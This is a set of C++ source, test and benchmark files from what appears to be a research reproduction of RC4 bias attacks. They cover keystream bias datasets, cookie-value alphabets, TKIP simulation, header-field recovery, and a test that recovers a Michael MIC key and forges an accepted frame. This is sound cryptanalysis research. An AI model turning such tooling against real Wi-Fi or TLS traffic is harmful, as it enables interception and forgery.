    const std::function<bool(const Bytes&)>& try_cookie);

// The RFC 6265 cookie-value alphabet restriction the paper exploits
// (Sect. 6.2): base64-style values. Returns the 64-character set used by our
// experiments.
std::vector<uint8_t> CookieAlphabet64();

// Lower-case hexadecimal values (16 characters): session tokens emitted as
// hex digests, an even tighter Sect. 6.2 restriction.
std::vector<uint8_t> CookieAlphabetHex();

}  // namespace rc4b

#endif  // SRC_TLS_COOKIE_ATTACK_H_
