#include "src/biases/dataset.h"

#include <cmath>

#include <gtest/gtest.h>

namespace rc4b {
namespace {

DatasetOptions SmallOptions(uint64_t keys, uint64_t seed) {
  DatasetOptions options;
  options.keys = keys;
  options.workers = 4;
  options.seed = seed;
  return options;
}

TEST(DatasetTest, SingleByteGridTotalsAndKeys) {
  const auto grid = GenerateSingleByteDataset(8, SmallOptions(1 << 12, 1));
  EXPECT_EQ(grid.keys(), uint64_t{1} << 12);
  for (size_t pos = 0; pos < 8; ++pos) {
    uint64_t total = 0;
    for (uint64_t c : grid.Row(pos)) {
      total += c;
    }
    EXPECT_EQ(total, grid.keys()) << "pos " << pos;
  }
}

TEST(DatasetTest, SingleByteDetectsMantinShamirBias) {
  // 2^17 keys suffice for a >20-sigma Z2=0 signal.
  const auto grid = GenerateSingleByteDataset(4, SmallOptions(1 << 17, 2));
  const double p = grid.Probability(1, 0);  // position index 1 = Z2
  EXPECT_GT(p, 1.7 / 256.0);
  EXPECT_LT(p, 2.3 / 256.0);
}

TEST(DatasetTest, SingleByteDetectsPositionValueBias) {
  // The r-bias: Pr[Z_r = r] is elevated for small r (AlFardan/Isobe). At
  // 2^19 keys each position's signal is noisy (bias ~ 2^-8 relative, noise
  // ~ 2^-5.5), so test the *pooled* deviation across positions 3..16, which
  // is a clean multi-sigma signal.
  const auto grid = GenerateSingleByteDataset(16, SmallOptions(1 << 19, 3));
  double pooled = 0.0;
  int positions = 0;
  for (size_t r = 3; r <= 16; ++r) {
    pooled += grid.Probability(r - 1, static_cast<uint8_t>(r)) - 1.0 / 256.0;
    ++positions;
  }
  // Mean elevation per position must be positive and of plausible magnitude.
  const double mean_elevation = pooled / positions;
  EXPECT_GT(mean_elevation, 0.0);
  EXPECT_LT(mean_elevation, 0.01);
}

TEST(DatasetTest, DeterministicAcrossRuns) {
  const auto a = GenerateSingleByteDataset(4, SmallOptions(1 << 10, 7));
  const auto b = GenerateSingleByteDataset(4, SmallOptions(1 << 10, 7));
  for (size_t pos = 0; pos < 4; ++pos) {
    for (int v = 0; v < 256; ++v) {
      ASSERT_EQ(a.Count(pos, static_cast<uint8_t>(v)),
                b.Count(pos, static_cast<uint8_t>(v)));
    }
  }
}

TEST(DatasetTest, ConsecutiveGridMarginalsMatchSingleByte) {
  const uint64_t keys = 1 << 14;
  const auto digraph = GenerateConsecutiveDataset(4, SmallOptions(keys, 5));
  const auto single = GenerateSingleByteDataset(5, SmallOptions(keys, 5));
  // Same seed => same keys => marginal of (Z_r, Z_{r+1}) over the second byte
  // equals the single-byte counts at r exactly.
  for (size_t pos = 0; pos < 4; ++pos) {
    for (int v = 0; v < 256; ++v) {
      uint64_t marginal = 0;
      for (int y = 0; y < 256; ++y) {
        marginal += digraph.Count(pos, static_cast<uint8_t>(v), static_cast<uint8_t>(y));
      }
      ASSERT_EQ(marginal, single.Count(pos, static_cast<uint8_t>(v)))
          << "pos=" << pos << " v=" << v;
    }
  }
}

TEST(DatasetTest, PairDatasetMatchesConsecutiveForAdjacentPairs) {
  const uint64_t keys = 1 << 12;
  const auto consecutive = GenerateConsecutiveDataset(3, SmallOptions(keys, 9));
  const auto pairs = GeneratePairDataset({{1, 2}, {2, 3}}, SmallOptions(keys, 9));
  for (int x = 0; x < 256; ++x) {
    for (int y = 0; y < 256; ++y) {
      ASSERT_EQ(pairs.Count(0, static_cast<uint8_t>(x), static_cast<uint8_t>(y)),
                consecutive.Count(0, static_cast<uint8_t>(x), static_cast<uint8_t>(y)));
      ASSERT_EQ(pairs.Count(1, static_cast<uint8_t>(x), static_cast<uint8_t>(y)),
                consecutive.Count(1, static_cast<uint8_t>(x), static_cast<uint8_t>(y)));
    }
  }
}

TEST(DatasetTest, LongTermDatasetStructure) {
  // Verifying the 2^-8 Fluhrer–McGrew magnitudes needs ~2^38 digraph samples
  // (the Table 1 bench's job); here we validate the generator's bookkeeping:
  // per-row totals, key accounting, and determinism.
  LongTermOptions options;
  options.keys = 8;
  options.bytes_per_key = 1 << 16;
  options.workers = 4;
  options.seed = 11;
  const auto grid = GenerateLongTermDigraphDataset(options);
  EXPECT_EQ(grid.keys(), 8u * ((1 << 16) / 256));
  for (size_t row = 0; row < 256; row += 37) {
    uint64_t total = 0;
    for (uint64_t c : grid.Row(row)) {
      total += c;
    }
    EXPECT_EQ(total, grid.keys()) << "row " << row;
  }
  const auto again = GenerateLongTermDigraphDataset(options);
  EXPECT_EQ(again.Count(7, 0, 0), grid.Count(7, 0, 0));
  EXPECT_EQ(again.Count(200, 255, 201), grid.Count(200, 255, 201));
}

TEST(DatasetTest, AbsabCountsBookkeeping) {
  // The ABSAB match rate sits within noise of 2^-16 at unit-test scale
  // (detecting the 2^-8-relative bias is the absab-gap bench's job); check
  // the counting machinery: sample totals, plausible rates, determinism.
  LongTermOptions options;
  options.keys = 8;
  options.bytes_per_key = 1 << 20;
  options.workers = 4;
  options.seed = 13;
  const auto counts = GenerateAbsabDataset(8, options);
  ASSERT_EQ(counts.matches.size(), 9u);
  ASSERT_EQ(counts.samples.size(), 9u);
  for (uint64_t g = 0; g <= 8; ++g) {
    EXPECT_EQ(counts.samples[g], 8u << 20) << "gap " << g;
    const double rate = static_cast<double>(counts.matches[g]) /
                        static_cast<double>(counts.samples[g]);
    // Within 10 sigma of uniform (sigma ~ 2^-16 / sqrt(counts)).
    EXPECT_NEAR(rate, 0x1.0p-16, 10 * std::sqrt(0x1.0p-16 / (8.0 * (1 << 20))))
        << "gap " << g;
  }
  const auto again = GenerateAbsabDataset(8, options);
  EXPECT_EQ(again.matches, counts.matches);
}

TEST(DatasetTest, AlignedPairDatasetTotals) {
  LongTermOptions options;
  options.keys = 4;
  options.bytes_per_key = 1 << 16;
  options.workers = 2;
  options.seed = 17;
  const auto counts = GenerateAlignedPairDataset(0, 2, options);
  uint64_t total = 0;
  for (uint64_t c : counts) {
    total += c;
  }
  EXPECT_EQ(total, options.keys * (options.bytes_per_key / 256));
}

}  // namespace
}  // namespace rc4b
