#include "src/stats/special.h"

#include <cmath>
#include <limits>

namespace rc4b {

namespace {

constexpr int kMaxIterations = 500;
constexpr double kEpsilon = 1e-14;

// Lower incomplete gamma P(a, x) by its power series (converges for x < a+1).
double GammaPSeries(double a, double x) {
  double sum = 1.0 / a;
  double term = sum;
  double ap = a;
  for (int n = 0; n < kMaxIterations; ++n) {
    ap += 1.0;
    term *= x / ap;
    sum += term;
    if (std::fabs(term) < std::fabs(sum) * kEpsilon) {
      break;
    }
  }
  return sum * std::exp(-x + a * std::log(x) - std::lgamma(a));
}

// Upper incomplete gamma Q(a, x) by Lentz's continued fraction
// (converges for x >= a+1).
double GammaQContinuedFraction(double a, double x) {
  const double tiny = std::numeric_limits<double>::min() / kEpsilon;
  double b = x + 1.0 - a;
  double c = 1.0 / tiny;
  double d = 1.0 / b;
  double h = d;
  for (int i = 1; i <= kMaxIterations; ++i) {
    const double an = -i * (i - a);
    b += 2.0;
    d = an * d + b;
    if (std::fabs(d) < tiny) {
      d = tiny;
    }
    c = b + an / c;
    if (std::fabs(c) < tiny) {
      c = tiny;
    }
    d = 1.0 / d;
    const double delta = d * c;
    h *= delta;
    if (std::fabs(delta - 1.0) < kEpsilon) {
      break;
    }
  }
  return std::exp(-x + a * std::log(x) - std::lgamma(a)) * h;
}

}  // namespace

double RegularizedGammaQ(double a, double x) {
  if (x < 0.0 || a <= 0.0) {
    return std::numeric_limits<double>::quiet_NaN();
  }
  if (x == 0.0) {
    return 1.0;
  }
  if (x < a + 1.0) {
    return 1.0 - GammaPSeries(a, x);
  }
  return GammaQContinuedFraction(a, x);
}

double ChiSquaredSurvival(double statistic, double df) {
  return RegularizedGammaQ(df / 2.0, statistic / 2.0);
}

double NormalCdf(double z) { return 0.5 * std::erfc(-z / std::sqrt(2.0)); }

double NormalSurvival(double z) { return 0.5 * std::erfc(z / std::sqrt(2.0)); }

double TwoSidedNormalPValue(double z) {
  const double p = std::erfc(std::fabs(z) / std::sqrt(2.0));
  return p > 1.0 ? 1.0 : p;
}

double LogBinomialCoefficient(double n, double k) {
  return std::lgamma(n + 1.0) - std::lgamma(k + 1.0) - std::lgamma(n - k + 1.0);
}

}  // namespace rc4b
