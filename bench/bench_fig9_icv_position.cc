// Fig. 9 — median position in the candidate list of the first candidate with
// a correct ICV, vs the number of captured packet copies. Shares the Fig. 8
// simulation (src/sim/tkip_sim.h): the position is min(rank of the true
// trailer, first CRC false positive), evaluated with the exact rank DP.
#include <algorithm>
#include <cmath>
#include <cstdio>

#include "bench/harness.h"
#include "src/common/flags.h"
#include "src/sim/tkip_sim.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{.count_flag = "sims",
                            .count_default = "16",
                            .count_help = "simulated attacks (paper: 256)",
                            .seed_default = "13"};
  FlagSet flags("Fig. 9: median candidate position of the first correct ICV");
  DefineScaleFlags(flags, scale)
      .Define("max-copies", "15", "largest checkpoint in units of 2^20 packets")
      .Define("step", "2", "checkpoint step in units of 2^20")
      .Define("keys-per-tsc", "0x40000", "model keys per TSC1 class (2^18)")
      .Define("target-bias-rms", "0.0015",
              "calibrate the model's RMS relative bias (0 = leave the raw "
              "model, whose sampling noise inflates the signal)")
      .Define("oracle", "true",
              "perfect-model victim (see src/sim/tkip_sim.h); false = real "
              "TKIP mixing + RC4 with an honestly-trained model")
      .Define("model-seed", "14", "attacker model seed");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }
  const ScaleFlagValues scale_values = GetScaleFlags(flags, scale);

  bench::PrintHeader(
      "bench_fig9_icv_position",
      "Fig. 9 (median position of a correct-ICV candidate vs copies x 2^20)",
      "expected shape: monotone decrease over ~2^26 -> ~2^10 as copies grow "
      "(absolute values shifted right of the paper's due to the scaled-down "
      "attacker model)");

  const Bytes msdu = sim::InjectedPacket();
  TkipTscModel model(msdu.size() + 1, msdu.size() + kTkipTrailerSize);
  std::printf("generating attacker model...\n");
  model.Generate(flags.GetUint("keys-per-tsc"), flags.GetUint("model-seed"),
                 scale_values.workers);
  const double target_rms = flags.GetDouble("target-bias-rms");
  if (target_rms > 0.0) {
    const double raw_rms = model.RmsRelativeDeviation();
    if (raw_rms > target_rms) {
      model.ShrinkTowardUniform(target_rms / raw_rms);
    }
    std::printf("model RMS relative bias: raw %.4f -> calibrated %.4f\n",
                raw_rms, model.RmsRelativeDeviation());
  }

  sim::TkipSimOptions options;
  for (uint64_t copies = 1; copies <= flags.GetUint("max-copies");
       copies += flags.GetUint("step")) {
    options.checkpoints.push_back(copies << 20);
  }
  options.trials = scale_values.count;
  options.workers = scale_values.workers;
  options.seed = scale_values.seed;
  options.oracle_model = flags.GetBool("oracle");

  const auto aggregate = sim::RunTkipSimulations(model, options);

  std::printf("\n%-16s %18s %12s\n", "copies (x2^20)", "median position",
              "log2");
  for (size_t c = 0; c < aggregate.checkpoints.size(); ++c) {
    auto list = aggregate.icv_positions[c];
    if (list.empty()) {
      continue;  // --sims=0
    }
    std::sort(list.begin(), list.end());
    const double median = list[list.size() / 2];
    std::printf("%-16llu %18.0f %12.2f\n",
                static_cast<unsigned long long>(aggregate.checkpoints[c] >> 20),
                median, median > 0 ? std::log2(median) : 0.0);
  }
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
