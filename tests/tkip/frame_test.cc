#include "src/tkip/frame.h"

#include <gtest/gtest.h>

#include "src/common/rng.h"
#include "src/crypto/crc32.h"

namespace rc4b {
namespace {

TkipPeer TestPeer(uint64_t seed) {
  Xoshiro256 rng(seed);
  TkipPeer peer;
  rng.Fill(peer.tk);
  peer.mic_key = MichaelKey{static_cast<uint32_t>(rng()), static_cast<uint32_t>(rng())};
  rng.Fill(peer.ta);
  rng.Fill(peer.da);
  rng.Fill(peer.sa);
  peer.priority = 0;
  return peer;
}

Bytes TestMsdu(uint64_t seed, size_t size = 55) {
  Xoshiro256 rng(seed * 31);
  Bytes msdu(size);
  rng.Fill(msdu);
  return msdu;
}

TEST(TkipFrameTest, EncapDecapRoundTrip) {
  const TkipPeer peer = TestPeer(1);
  const Bytes msdu = TestMsdu(1);
  const TkipFrame frame = TkipEncapsulate(peer, msdu, 42);
  const auto decapped = TkipDecapsulate(peer, frame);
  ASSERT_TRUE(decapped.has_value());
  EXPECT_EQ(*decapped, msdu);
}

TEST(TkipFrameTest, FrameSizeIncludesTrailer) {
  const TkipPeer peer = TestPeer(2);
  const Bytes msdu = TestMsdu(2, 100);
  const TkipFrame frame = TkipEncapsulate(peer, msdu, 7);
  EXPECT_EQ(frame.ciphertext.size(), 100u + kTkipTrailerSize);
}

TEST(TkipFrameTest, TamperedCiphertextRejected) {
  const TkipPeer peer = TestPeer(3);
  const Bytes msdu = TestMsdu(3);
  TkipFrame frame = TkipEncapsulate(peer, msdu, 9);
  frame.ciphertext[10] ^= 0x01;
  EXPECT_FALSE(TkipDecapsulate(peer, frame).has_value());
}

TEST(TkipFrameTest, WrongTscRejected) {
  const TkipPeer peer = TestPeer(4);
  const Bytes msdu = TestMsdu(4);
  TkipFrame frame = TkipEncapsulate(peer, msdu, 100);
  frame.tsc = 101;  // replay with modified counter -> different RC4 key
  EXPECT_FALSE(TkipDecapsulate(peer, frame).has_value());
}

TEST(TkipFrameTest, WrongMicKeyRejected) {
  const TkipPeer sender = TestPeer(5);
  TkipPeer receiver = sender;
  receiver.mic_key.l ^= 1;
  const TkipFrame frame = TkipEncapsulate(sender, TestMsdu(5), 3);
  EXPECT_FALSE(TkipDecapsulate(receiver, frame).has_value());
}

TEST(TkipFrameTest, TrailerStructure) {
  const TkipPeer peer = TestPeer(6);
  const Bytes msdu = TestMsdu(6);
  const Bytes trailer = TkipTrailer(peer, msdu);
  ASSERT_EQ(trailer.size(), kTkipTrailerSize);
  // ICV = CRC32(msdu || mic), little-endian.
  Bytes covered = msdu;
  covered.insert(covered.end(), trailer.begin(), trailer.begin() + 8);
  EXPECT_EQ(LoadLe32(trailer.data() + 8), Crc32(covered));
}

TEST(TkipFrameTest, DifferentTscsYieldUnrelatedCiphertexts) {
  const TkipPeer peer = TestPeer(7);
  const Bytes msdu = TestMsdu(7);
  const TkipFrame f1 = TkipEncapsulate(peer, msdu, 1);
  const TkipFrame f2 = TkipEncapsulate(peer, msdu, 2);
  ASSERT_EQ(f1.ciphertext.size(), f2.ciphertext.size());
  size_t differing = 0;
  for (size_t i = 0; i < f1.ciphertext.size(); ++i) {
    differing += f1.ciphertext[i] != f2.ciphertext[i] ? 1 : 0;
  }
  // Same plaintext, different keystream: expect ~255/256 of bytes to differ.
  EXPECT_GT(differing, f1.ciphertext.size() * 3 / 4);
}

TEST(TkipFrameTest, ShortFrameRejected) {
  const TkipPeer peer = TestPeer(8);
  TkipFrame frame;
  frame.tsc = 1;
  frame.ciphertext = Bytes(4, 0);
  EXPECT_FALSE(TkipDecapsulate(peer, frame).has_value());
}

TEST(TkipFrameTest, MicKeyRecoverableFromDecryptedFrame) {
  // End-to-end property behind the attack: plaintext MSDU + decrypted MIC
  // suffice to derive the Michael key and forge new frames.
  const TkipPeer peer = TestPeer(9);
  const Bytes msdu = TestMsdu(9);
  const Bytes trailer = TkipTrailer(peer, msdu);

  const auto header = MichaelHeader(peer.da, peer.sa, peer.priority);
  Bytes authenticated(header.begin(), header.end());
  authenticated.insert(authenticated.end(), msdu.begin(), msdu.end());
  const MichaelKey recovered = MichaelRecoverKey(
      authenticated, std::span<const uint8_t>(trailer.data(), 8));
  EXPECT_EQ(recovered, peer.mic_key);

  // Forge: encapsulate a different payload with the recovered key.
  TkipPeer forger = peer;
  forger.mic_key = recovered;
  const Bytes forged_msdu = TestMsdu(10, 60);
  const TkipFrame forged = TkipEncapsulate(forger, forged_msdu, 1000);
  EXPECT_TRUE(TkipDecapsulate(peer, forged).has_value());
}

}  // namespace
}  // namespace rc4b
