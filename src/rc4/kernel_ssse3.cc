// 128-bit transposed-lane RC4 kernel (16 lanes per group). Compiled with
// -mssse3 (see CMakeLists.txt): the hand-written vector ops below are
// SSE2-level loads/stores/byte-adds, and the SSSE3 floor additionally lets
// the compiler use byte shuffles in the lane loops. Runtime dispatch
// (src/rc4/kernel_registry.cc) only selects this kernel when cpuid reports
// SSSE3, so the TU's ISA never leaks into a baseline build path. Without
// SSSE3 at compile time (-mno-ssse3 fallback build, or a non-x86 target)
// the TU degrades to a stub the registry reports as not compiled in.
#include <memory>

#include "src/rc4/kernel.h"

#if defined(__SSSE3__)

#include <immintrin.h>

#include "src/rc4/kernel_lanes.h"
#include "src/rc4/kernel_x86_tile.h"

namespace rc4b {
namespace {

struct Sse128 {
  static constexpr size_t kWidth = 16;
  using Reg = __m128i;
  static Reg Load(const uint8_t* p) {
    return _mm_load_si128(reinterpret_cast<const __m128i*>(p));
  }
  static void Store(uint8_t* p, Reg v) {
    _mm_store_si128(reinterpret_cast<__m128i*>(p), v);
  }
  static Reg Add8(Reg a, Reg b) { return _mm_add_epi8(a, b); }
  static Reg Zero() { return _mm_setzero_si128(); }
  static Reg Set1(uint8_t v) { return _mm_set1_epi8(static_cast<char>(v)); }
  // Tiled emit (kernel_lanes.h): the output row is one aligned 16-byte store
  // into the tile instead of 16 strided byte stores. No GatherRow hook — the
  // 128-bit ISA has no hardware gather, and the whole transposed state is
  // L1-resident (256 x 16 = 4 KiB), so the scalar column reads already hit
  // L1 and software prefetch measured as a wash.
  static void Transpose16x16(const uint8_t* src, size_t src_stride, uint8_t* dst,
                             size_t dst_stride) {
    TransposeBlock16x16(src, src_stride, dst, dst_stride);
  }
};

}  // namespace

bool Ssse3KernelCompiled() { return true; }

std::unique_ptr<Rc4LaneKernel> MakeSsse3Kernel(size_t width) {
  if (width != Sse128::kWidth) {
    return nullptr;
  }
  return std::make_unique<TransposedLaneKernel<Sse128>>();
}

}  // namespace rc4b

#else  // !defined(__SSSE3__)

namespace rc4b {

bool Ssse3KernelCompiled() { return false; }

std::unique_ptr<Rc4LaneKernel> MakeSsse3Kernel(size_t /*width*/) { return nullptr; }

}  // namespace rc4b

#endif  // defined(__SSSE3__)
