// Statistical validation of the engine against the analytic Fluhrer–McGrew
// model (src/biases/fluhrer_mcgrew.cc) at keystream positions 1..256.
//
// The paper needed 2^44+ keys to measure individual FM digraphs (each is a
// 2^-8-relative deviation on a 2^-16 cell); a unit test cannot reach that
// scale, so we pool all ~1800 FM cells across positions 1..256 into one
// matched-filter estimate of the bias scale:
//
//   lambda = sum_c q_c (m_c / e_c - 1) / sum_c q_c^2,
//
// where m_c is the measured cell probability, e_c the independence
// expectation from the row's measured single-byte marginals (the same
// baseline bias_scan uses — at short-term positions the marginals are
// themselves biased, so comparing against a flat 2^-16 would systematically
// inflate the estimate), and q_c the model's relative bias. E[lambda] = 1 if
// the engine reproduces the model, 0 if the FM digraph structure is absent.
// The engine is deterministic for a fixed seed (and invariant under worker
// count), so the observed value is stable across machines and thread counts;
// the band below leaves multiple analytic sigma (sd(lambda) ~
// 1/sqrt(n u sum q^2) ~ 0.5 at 2^22 keys) on each side of the observed value.
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <map>
#include <string>

#include <gtest/gtest.h>

#include "src/biases/fluhrer_mcgrew.h"
#include "src/engine/accumulators.h"
#include "src/engine/keystream_engine.h"

namespace rc4b {
namespace {

TEST(EngineBiasTest, FluhrerMcGrewScaleAtPositions1To256) {
  constexpr uint64_t kKeys = uint64_t{1} << 22;
  constexpr size_t kPositions = 256;

  EngineOptions options;
  options.keys = kKeys;
  options.workers = 0;
  options.seed = 20160810;  // fixed: the dataset (and lambda) is reproducible
  ConsecutiveAccumulator accumulator(kPositions);
  RunKeystreamEngine(options, accumulator);
  const DigraphGrid& grid = accumulator.grid();

  const double n = static_cast<double>(grid.keys());
  double numerator = 0.0;
  double q_squared = 0.0;
  size_t fm_cells = 0;
  for (size_t row = 0; row < kPositions; ++row) {
    const uint64_t r = row + 1;  // digraph (Z_r, Z_{r+1})
    // Several Table 1 rows can share a cell at particular i; pool their
    // relative biases additively (exact to first order).
    std::map<size_t, double> cells;
    for (const FmDigraph& d : FmDigraphsAt(PrgaCounterAtPosition(r), r)) {
      cells[static_cast<size_t>(d.v1) * 256 + d.v2] += d.relative_bias;
    }
    for (const auto& [cell, q] : cells) {
      const uint8_t v1 = static_cast<uint8_t>(cell / 256);
      const uint8_t v2 = static_cast<uint8_t>(cell % 256);
      const double expected =
          grid.MarginalFirst(row, v1) * grid.MarginalSecond(row, v2);
      const double measured = static_cast<double>(grid.Row(row)[cell]) / n;
      numerator += q * (measured / expected - 1.0);
      q_squared += q * q;
      ++fm_cells;
    }
  }
  ASSERT_GT(fm_cells, 1500u);
  const double lambda = numerator / q_squared;
  RecordProperty("fm_lambda", std::to_string(lambda));
  std::printf("matched-filter FM bias scale lambda = %.4f over %zu cells\n",
              lambda, fm_cells);

  // Analytic sd(lambda) ~ 0.5; a missing FM structure gives lambda ~ 0, a
  // doubled bias ~ 2+. The fixed seed makes the observed value deterministic
  // (1.53 as of this writing).
  EXPECT_GT(lambda, 0.3);
  EXPECT_LT(lambda, 1.8);

  // Cross-check at full unit-test power inside the same dataset: the strong
  // Mantin–Shamir single-byte bias Pr[Z2 = 0] ~ 2^-7, a >40-sigma signal at
  // 2^22 keys.
  uint64_t z2_zero = 0;
  for (int v1 = 0; v1 < 256; ++v1) {
    z2_zero += grid.Count(0, static_cast<uint8_t>(v1), 0);  // row 0: (Z1, Z2)
  }
  const double z2_probability = static_cast<double>(z2_zero) / n;
  EXPECT_NEAR(z2_probability, 2.0 / 256.0, 0.1 / 256.0);
}

}  // namespace
}  // namespace rc4b
