// Merges the shard grids of a manifest into one full-range grid file
// (docs/store.md). Every shard is fully validated first — checksums, format
// version, provenance, exact key-range tiling — so a truncated download or a
// shard from a different run is a loud error, never a silently wrong merge.
//
//   tools/grid_merge --manifest consec.manifest --out consec.grid
//       --verify-against consec-ref.grid   # optional bit-exactness check
#include <cstdio>
#include <string>

#include "src/common/flags.h"
#include "src/store/merge.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
  FlagSet flags(
      "Validates a manifest's shard grids and merges them into one "
      "full-range grid file (docs/store.md)");
  flags.Define("manifest", "grid.manifest", "manifest written by grid_plan")
      .Define("out", "", "merged grid output path (required)")
      .Define("verify-against", "",
              "optional reference grid; fail unless the merge is "
              "bit-identical to it");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const std::string out = flags.GetString("out");
  if (out.empty()) {
    std::fprintf(stderr, "grid_merge: --out is required\n");
    return 1;
  }

  const std::string manifest_path = flags.GetString("manifest");
  store::Manifest manifest;
  if (IoStatus status = store::ReadManifest(manifest_path, &manifest);
      !status.ok()) {
    std::fprintf(stderr, "grid_merge: %s\n", status.message().c_str());
    return 1;
  }

  store::StoredGrid merged;
  if (IoStatus status =
          store::MergeShardGrids(manifest, manifest_path, &merged);
      !status.ok()) {
    std::fprintf(stderr, "grid_merge: %s\n", status.message().c_str());
    return 1;
  }

  const std::string reference = flags.GetString("verify-against");
  if (!reference.empty()) {
    store::StoredGrid ref;
    if (IoStatus status = store::ReadGridFile(reference, &ref); !status.ok()) {
      std::fprintf(stderr, "grid_merge: %s\n", status.message().c_str());
      return 1;
    }
    if (IoStatus status =
            store::CheckGridsEqual(ref, merged, reference, "merge");
        !status.ok()) {
      std::fprintf(stderr, "grid_merge: verification failed: %s\n",
                   status.message().c_str());
      return 1;
    }
    std::printf("merge is bit-identical to %s\n", reference.c_str());
  }

  if (IoStatus status = store::WriteGridFile(out, merged.meta, merged.cells);
      !status.ok()) {
    std::fprintf(stderr, "grid_merge: %s\n", status.message().c_str());
    return 1;
  }
  std::printf("wrote %s: %s grid, %zu shards merged, keys [%llu, %llu), "
              "%llu samples\n",
              out.c_str(), store::GridKindName(merged.meta.kind),
              manifest.shards.size(),
              static_cast<unsigned long long>(merged.meta.key_begin),
              static_cast<unsigned long long>(merged.meta.key_end),
              static_cast<unsigned long long>(merged.meta.samples));
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
