#include "src/tkip/header_recovery.h"

#include <gtest/gtest.h>

#include "src/common/rng.h"

namespace rc4b {
namespace {

// Builds the injected packet from the attacker's side: controlled server
// address/port, but unknown victim-side fields filled in.
Bytes VictimPacket(uint8_t ttl, uint32_t client_address, uint16_t client_port) {
  Ipv4Header ip;
  ip.source = 0x5db8d822;  // attacker's server (known)
  ip.destination = client_address;
  ip.ttl = ttl;
  TcpHeader tcp;
  tcp.source_port = 80;
  tcp.destination_port = client_port;
  return BuildTcpPacket(LlcSnapHeader{}, ip, tcp, FromString("7bytes!"));
}

Bytes TemplateWithUnknownsZeroed(const Bytes& truth) {
  Bytes tmpl = truth;
  for (size_t pos : UnknownHeaderLayout::Positions()) {
    tmpl[pos] = 0;
  }
  return tmpl;
}

TEST(HeaderRecoveryTest, LayoutPositionsMatchPacketStructure) {
  const Bytes truth = VictimPacket(64, 0xc0a80142, 51234);
  const Bytes tmpl = TemplateWithUnknownsZeroed(truth);
  // Zeroing the unknown fields must break the checksums...
  EXPECT_FALSE(HeaderChecksumsValid(tmpl));
  // ...and the true packet must validate.
  EXPECT_TRUE(HeaderChecksumsValid(truth));
  // Exactly 11 unknown bytes.
  EXPECT_EQ(UnknownHeaderLayout::Positions().size(), 11u);
}

TEST(HeaderRecoveryTest, RecoversFieldsWhenTruthRanksHigh) {
  const uint8_t ttl = 57;
  const uint32_t client = 0x0a000123;
  const uint16_t port = 49877;
  const Bytes truth = VictimPacket(ttl, client, port);
  const Bytes tmpl = TemplateWithUnknownsZeroed(truth);

  const auto positions = UnknownHeaderLayout::Positions();
  Xoshiro256 rng(1);
  SingleByteTables tables(positions.size(), std::vector<double>(256));
  for (size_t i = 0; i < positions.size(); ++i) {
    for (int v = 0; v < 256; ++v) {
      tables[i][v] = -rng.UnitDouble();
    }
    tables[i][truth[positions[i]]] += 1.5;  // truth near the top
  }

  const auto result = RecoverHeaderFields(tmpl, tables, 1 << 16);
  ASSERT_TRUE(result.found);
  EXPECT_EQ(result.ttl, ttl);
  EXPECT_EQ(result.client_address, client);
  EXPECT_EQ(result.client_port, port);
  EXPECT_EQ(result.msdu, truth);
}

TEST(HeaderRecoveryTest, ChecksumsPruneNearMisses) {
  // Put an impostor ahead of the truth at one position: both checksums
  // cover every unknown byte, so the impostor must be rejected.
  const Bytes truth = VictimPacket(64, 0xc0a80107, 50001);
  const Bytes tmpl = TemplateWithUnknownsZeroed(truth);

  const auto positions = UnknownHeaderLayout::Positions();
  SingleByteTables tables(positions.size(), std::vector<double>(256));
  for (size_t i = 0; i < positions.size(); ++i) {
    for (int v = 0; v < 256; ++v) {
      tables[i][v] = -0.01 * ((v - truth[positions[i]]) & 0xff);
    }
  }
  tables[0][(truth[positions[0]] + 1) & 0xff] = 0.005;  // impostor TTL first

  const auto result = RecoverHeaderFields(tmpl, tables, 1 << 12);
  ASSERT_TRUE(result.found);
  EXPECT_GT(result.candidates_tried, 1u);
  EXPECT_EQ(result.msdu, truth);
}

TEST(HeaderRecoveryTest, FailsGracefullyWithinBudget) {
  const Bytes truth = VictimPacket(64, 0xc0a80107, 50001);
  const Bytes tmpl = TemplateWithUnknownsZeroed(truth);
  const auto positions = UnknownHeaderLayout::Positions();
  Xoshiro256 rng(2);
  SingleByteTables tables(positions.size(), std::vector<double>(256));
  for (auto& table : tables) {
    for (auto& v : table) {
      v = -rng.UnitDouble();  // no signal at all
    }
  }
  const auto result = RecoverHeaderFields(tmpl, tables, 256);
  EXPECT_FALSE(result.found);
  EXPECT_EQ(result.candidates_tried, 0u);
}

TEST(HeaderRecoveryTest, IndependentOfTrailerRecovery) {
  // Sect. 5.3: header-field recovery "can be done independently ... of
  // decrypting the MIC and ICV" — the checksum predicate must not read
  // beyond the TCP payload.
  Bytes truth = VictimPacket(64, 0xc0a80150, 50002);
  EXPECT_TRUE(HeaderChecksumsValid(truth));
  // Appending a (would-be) encrypted MIC+ICV trailer must not change it.
  Bytes with_trailer = truth;
  with_trailer.resize(truth.size());  // predicate only sees the MSDU we pass
  EXPECT_TRUE(HeaderChecksumsValid(with_trailer));
}

}  // namespace
}  // namespace rc4b
