// Transposed-lane RC4 kernel template, shared by the ISA-specific TUs
// (kernel_ssse3.cc, kernel_avx2.cc, kernel_avx512.cc, kernel_neon.cc — each
// compiled with its own -m flags, so this header must only be included from
// those files).
//
// Layout: where Rc4MultiStream keeps W whole permutations side by side, this
// kernel transposes them — row v of `st_` holds byte v of ALL lanes, so the
// lane-invariant accesses become single W-wide vector ops:
//
//   * i (and the KSA's key index i mod keylen) never depend on key or state,
//     so S[i] of all lanes is ONE aligned vector load of row st_[i], and the
//     key column of all lanes is one load of the transposed key row;
//   * the j update  j += S[i] (+ key)  is one vector byte-add for all lanes;
//   * the output index  S[i] + S[j]  is one vector byte-add;
//   * writing S[i] = old S[j] for all lanes is one vector store of row st_[i].
//
// The only truly lane-divergent accesses are reading/writing column m at row
// j[m] (the swap's S[j] side) and the final output gather S[S[i]+S[j]].
// The swap column stays scalar everywhere: its write side would need a
// byte-granularity scatter, which no supported ISA has (dword scatters would
// clobber the three neighboring lanes' columns). The OUTPUT side is covered
// by two optional hooks a trait struct V may provide on top of the required
